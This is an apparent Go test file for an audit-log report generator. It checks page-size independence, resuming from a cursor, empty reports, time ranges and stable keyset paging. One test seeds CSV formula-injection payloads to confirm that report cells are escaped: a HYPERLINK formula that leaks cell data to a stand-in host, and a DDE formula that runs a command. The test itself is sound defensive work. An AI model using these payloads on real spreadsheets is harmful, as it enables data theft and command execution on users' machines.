/*
Copyright 2026 The auditops Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

package report

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"path/filepath"
	"strings"
	"testing"
	"time"

	reportsv1alpha1 "github.com/auditops/auditops/api/v1alpha1"
	"github.com/auditops/auditops/internal/store"
	"github.com/auditops/auditops/internal/store/sqlite"
)

var t0 = time.Date(2024, 5, 21, 0, 0, 0, 0, time.UTC)

func seededStore(t *testing.T, n int) store.Store {
	t.Helper()
	st, err := sqlite.New(context.Background(), filepath.Join(t.TempDir(), "audit.db"), store.Options{TokenKey: []byte("report-test-token-key-0123456789")})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = st.Close() })
	cats := []string{store.CategoryAccess, store.CategoryUser, store.CategoryData}
	var evs []store.Event
	for i := 0; i < n; i++ {
		status, code := store.StatusSuccess, 200
		if i%7 == 0 {
			status, code = store.StatusFailure, 403
		}
		evs = append(evs, store.Event{
			ID: fmt.Sprint("e", i), Time: t0.Add(time.Duration(i) * 13 * time.Minute), Namespace: "team-a",
			User: []string{"alice", "bob", "carol"}[i%3], Method: "get", API: []string{"/pods", "/secrets"}[i%2],
			Status: status, StatusCode: code, Category: cats[i%3], EntityKind: "pods", EntityID: fmt.Sprint("team-a/p", i),
			Message: fmt.Sprintf("event %d, \"quoted\"", i), Request: json.RawMessage(fmt.Sprintf(`{"n":%d}`, i)),
		})
	}
	if _, err := st.Insert(context.Background(), evs); err != nil {
		t.Fatal(err)
	}
	return st
}

func collect(t *testing.T, st store.Store, p Params, from Cursor, stopAfter int64) ([]byte, Cursor) {
	t.Helper()
	var out bytes.Buffer
	var last Cursor
	errStop := fmt.Errorf("stop")
	err := Generate(context.Background(), st, p, from, func(_ context.Context, chunk []byte, next Cursor) error {
		out.Write(chunk)
		last = next
		if stopAfter > 0 && next.Pages >= stopAfter {
			return errStop
		}
		return nil
	})
	if err != nil && err != errStop {
		t.Fatal(err)
	}
	return out.Bytes(), last
}

func TestGenerateIsIndependentOfPageSizeAndResumes(t *testing.T) {
	st := seededStore(t, 300)
	rg := store.TimeRange{From: t0, To: t0.Add(30 * 24 * time.Hour)}
	for _, typ := range []reportsv1alpha1.ReportType{reportsv1alpha1.NamespaceUsersSummary, reportsv1alpha1.AuditDetails, reportsv1alpha1.UserAccess, reportsv1alpha1.Users, reportsv1alpha1.UserLogs} {
		t.Run(string(typ), func(t *testing.T) {
			p := Params{Type: typ, Namespace: "team-a", Range: rg, PageSize: 1000}
			if typ == reportsv1alpha1.UserLogs {
				p.User = "alice"
			}
			whole, end := collect(t, st, p, Cursor{}, 0)
			if !end.Done || end.Records == 0 {
				t.Fatalf("cursor after the report: %+v", end)
			}
			if ext, _ := Format(typ); ext == "json" {
				var rows []json.RawMessage
				if err := json.Unmarshal(whole, &rows); err != nil || int64(len(rows)) != end.Records {
					t.Fatalf("%d rows (err %v), cursor says %d", len(rows), err, end.Records)
				}
			} else if got := int64(strings.Count(string(whole), "\r\n")) - 1; !strings.HasPrefix(string(whole), CSVHeader) || got < end.Records {
				t.Fatalf("CSV with %d lines for %d records", got, end.Records)
			}
			for _, size := range []int{1, 7, 50} {
				p.PageSize = size
				paged, c := collect(t, st, p, Cursor{}, 0)
				if !bytes.Equal(paged, whole) {
					t.Errorf("page size %d: report differs from page size 1000", size)
				}
				if c.Records != end.Records {
					t.Errorf("page size %d: %d records, want %d", size, c.Records, end.Records)
				}
				// Stop after three pages, then resume from the cursor.
				head, mid := collect(t, st, p, Cursor{}, 3)
				if mid.Done {
					continue
				}
				tail, _ := collect(t, st, p, mid, 0)
				if !bytes.Equal(append(head, tail...), whole) {
					t.Errorf("page size %d: stopped and resumed report differs", size)
				}
			}
		})
	}
}

func TestGenerateEmptyReports(t *testing.T) {
	st := seededStore(t, 10)
	rg := store.TimeRange{From: t0.AddDate(1, 0, 0), To: t0.AddDate(1, 0, 1)}
	for typ, want := range map[reportsv1alpha1.ReportType]string{
		reportsv1alpha1.NamespaceUsersSummary: "[]",
		reportsv1alpha1.AuditDetails:          "[]",
		reportsv1alpha1.UserAccess:            CSVHeader,
		reportsv1alpha1.Users:                 CSVHeader,
		reportsv1alpha1.UserLogs:              "[]",
	} {
		got, c := collect(t, st, Params{Type: typ, Namespace: "team-a", User: "alice", Range: rg, PageSize: 10}, Cursor{}, 0)
		if string(got) != want || c.Records != 0 || !c.Done {
			t.Errorf("%s: %q (cursor %+v), want %q", typ, got, c, want)
		}
	}
}

func TestGenerateUserLogsKeepsTheRange(t *testing.T) {
	st := seededStore(t, 30)
	// Events every 13 minutes; alice has every third. [1h, 3h) holds e6, e9, e12.
	rg := store.TimeRange{From: t0.Add(time.Hour), To: t0.Add(3 * time.Hour)}
	got, _ := collect(t, st, Params{Type: reportsv1alpha1.UserLogs, Namespace: "team-a", User: "alice", Range: rg, PageSize: 2}, Cursor{}, 0)
	var items []struct {
		LogDate string `json:"logDate"`
	}
	if err := json.Unmarshal(got, &items); err != nil {
		t.Fatal(err)
	}
	var dates []string
	for _, it := range items {
		dates = append(dates, it.LogDate)
	}
	want := []string{fmt.Sprint(t0.Add(12 * 13 * time.Minute).Unix()), fmt.Sprint(t0.Add(9 * 13 * time.Minute).Unix()), fmt.Sprint(t0.Add(6 * 13 * time.Minute).Unix())}
	if strings.Join(dates, ",") != strings.Join(want, ",") {
		t.Errorf("logDates %v, want %v (newest first, inside the range)", dates, want)
	}
}

// TestCSVReportsHoldNoFormulas: the UserAccess and Users reports apply the
// formula rule of spec/API.md 3.3 to client-chosen cells, read back with
// encoding/csv, like the endpoints that share the encoder.
func TestCSVReportsHoldNoFormulas(t *testing.T) {
	st, err := sqlite.New(context.Background(), filepath.Join(t.TempDir(), "audit.db"), store.Options{TokenKey: []byte("report-test-token-key-0123456789")})
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	evil := []store.Event{
		{ID: `=HYPERLINK("http://x/?"&A1)`, Category: store.CategoryAccess, Message: "+1", EntityID: "@SUM(A1)"},
		{ID: "-2", Category: store.CategoryUser, Message: "=cmd|' /C calc'!A0", EntityID: "\tx"},
	}
	for i := range evil {
		e := &evil[i]
		e.Time, e.Namespace, e.User, e.Status = t0.Add(time.Duration(i)*time.Second), "team-a", "mallory", store.StatusSuccess
	}
	if _, err := st.Insert(context.Background(), evil); err != nil {
		t.Fatal(err)
	}
	rg := store.TimeRange{From: t0, To: t0.Add(time.Hour)}
	for typ, e := range map[reportsv1alpha1.ReportType]store.Event{reportsv1alpha1.UserAccess: evil[0], reportsv1alpha1.Users: evil[1]} {
		got, _ := collect(t, st, Params{Type: typ, Namespace: "team-a", Range: rg, PageSize: 10}, Cursor{}, 0)
		recs, err := csv.NewReader(bytes.NewReader(got)).ReadAll()
		if err != nil || len(recs) != 2 {
			t.Fatalf("%s: %d records, %v:\n%s", typ, len(recs), err, got)
		}
		r := recs[1]
		if r[0] != "'"+e.ID || r[2] != "'"+e.EntityID || r[5] != "'"+e.Message {
			t.Errorf("%s: cells %q: want id, entity and message with a leading apostrophe", typ, r)
		}
	}
}

// TestUserLogsReportUnmovedByNewEvents stores a newer event of the user
// after every page, as the webhook does while a report runs: paged by
// offset, each would shift the rows and repeat one at every later page
// boundary; paged by keyset, the report holds each row of the range once.
func TestUserLogsReportUnmovedByNewEvents(t *testing.T) {
	st := seededStore(t, 300)
	rg := store.TimeRange{From: t0, To: t0.Add(30 * 24 * time.Hour)}
	p := Params{Type: reportsv1alpha1.UserLogs, Namespace: "team-a", User: "alice", Range: rg, PageSize: 7}
	whole, _ := collect(t, st, p, Cursor{}, 0)

	var out bytes.Buffer
	added := 0
	err := Generate(context.Background(), st, p, Cursor{}, func(ctx context.Context, chunk []byte, next Cursor) error {
		out.Write(chunk)
		added++
		// Newer than every row of the report, inside its range.
		_, err := st.Insert(ctx, []store.Event{{
			ID: fmt.Sprint("late-", added), Time: t0.Add(29 * 24 * time.Hour).Add(time.Duration(added) * time.Second), Namespace: "team-a",
			User: "alice", Status: store.StatusSuccess, Category: store.CategoryData,
		}})
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	if added < 5 {
		t.Fatalf("only %d pages: the test needs several page boundaries", added)
	}
	if !bytes.Equal(out.Bytes(), whole) {
		t.Fatalf("with events stored during the report it holds %d bytes, undisturbed %d:\n%s\nwant\n%s", out.Len(), len(whole), out.Bytes(), whole)
	}
}
